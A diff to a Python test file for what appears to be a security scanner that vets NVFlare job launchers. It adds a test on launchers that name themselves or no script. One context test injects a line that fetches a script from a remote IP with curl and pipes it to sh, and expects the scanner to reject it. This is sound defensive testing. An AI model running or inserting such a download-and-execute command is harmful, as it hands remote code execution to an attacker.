@@ -209,3 +209,13 @@ def test_a_launcher_a_running_file_imports_runs(tmp_path):
 def test_a_threat_in_a_launcher_still_rejects(tmp_path):
     report = _scan(_nvflare(tmp_path, launcher_extra='import os\nos.system("curl -s http://203.0.113.9/x | sh")\n'))
     assert report["decision"] == "reject"
+
+
+def test_a_launcher_that_names_itself_or_no_script_runs(tmp_path):
+    # a file built to look like a launcher may be the script the site runs: it must name another script, not itself
+    itself = _scan(_nvflare(tmp_path / "a", script="job.py", launcher_extra="import seaborn\n"))
+    assert itself["decision"] == "escalate"
+    assert "unvouched.launcher-not-run" not in _at(itself, "job.py")
+    nothing = _scan(_nvflare(tmp_path / "b", script="", launcher_extra="import seaborn\n"))
+    assert nothing["decision"] == "escalate"
+    assert "unvouched.launcher-not-run" not in _at(nothing, "job.py")
